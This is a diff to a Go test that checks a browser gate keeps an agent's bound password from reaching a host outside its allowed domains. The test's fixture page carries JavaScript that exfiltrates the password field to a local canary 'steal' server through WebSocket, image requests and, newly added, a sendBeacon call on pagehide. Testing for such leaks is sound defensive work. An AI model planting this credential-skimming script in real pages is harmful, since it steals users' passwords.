@@ -39,9 +39,13 @@ func TestSecretStaysOnItsDomains(t *testing.T) {
 	// Not parallel: t.Setenv.
 	const value = "bound-secret-9f27c1"
 	t.Setenv("BROWSERGATE_TEST_BOUND_PW", value)
-	var canaryHits atomic.Int64
+	var canaryHits, afterHits atomic.Int64
 	canary, stop, err := serveOn("127.0.0.3:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
-		canaryHits.Add(1)
+		if r.URL.Path == "/after" {
+			afterHits.Add(1) // the agent's own navigation, after the page
+		} else if r.URL.Path != "/favicon.ico" {
+			canaryHits.Add(1)
+		}
 		fmt.Fprint(w, "stolen")
 	}))
 	if err != nil {
@@ -62,6 +66,12 @@ document.getElementById('pw').addEventListener('input', e => {
   try { const s = new WebSocket('` + ws + `'); s.onopen = () => s.send(v); } catch (err) {}
   new Image().src = '` + steal + `?img=' + encodeURIComponent(v);
   document.getElementById('s').textContent = 'sent';
+});
+// And once more as the agent navigates away, while the tab leaves.
+addEventListener('pagehide', () => {
+  const v = document.getElementById('pw').value;
+  navigator.sendBeacon('` + steal + `?bye', v);
+  try { const s = new WebSocket('` + ws + `?bye'); s.onopen = () => s.send(v); } catch (err) {}
 });
 </script>`,
 	})
@@ -84,11 +94,15 @@ document.getElementById('pw').addEventListener('input', e => {
 	if log.count("/login") == 0 {
 		t.Errorf("no submission reached the secret's own domain: the test proved nothing")
 	}
-	// Leaving the page ends the binding: the other allowed host is
-	// reachable again.
+	// The agent leaves the page for the other host: the navigation goes
+	// through (and ends the binding), what the page sends as it leaves
+	// does not.
 	f.mustAllow(t, "e2e.navigate", map[string]any{"url": canary + "/after"})
-	if canaryHits.Load() == 0 {
-		t.Errorf("after leaving the page, the other allowed host should be reachable again")
+	if afterHits.Load() == 0 {
+		t.Errorf("the agent's navigation to the other allowed host did not go through")
+	}
+	if n := canaryHits.Load(); n != 0 {
+		t.Fatalf("as the page was left, the host outside the secret's domains got %d request(s)", n)
 	}
 }
 
